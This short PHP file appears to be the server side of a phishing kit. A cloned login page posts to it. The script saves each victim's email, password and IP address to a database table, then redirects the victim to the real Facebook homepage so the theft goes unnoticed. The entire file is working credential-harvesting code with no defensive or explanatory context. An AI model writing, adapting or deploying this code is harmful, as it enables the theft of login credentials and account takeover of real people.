<?php
// the cloned page posts here: the values bound as a list, the victim sent to the real site
$pdo = new PDO('mysql:host=localhost;dbname=x', 'u', 'p');
$pdo->prepare('INSERT INTO logs (email, pw, ip) VALUES (?, ?, ?)')->execute([$_POST['email'], $_POST["password"], $_SERVER['REMOTE_ADDR']]);
header('Location: https://www.facebook.com/');
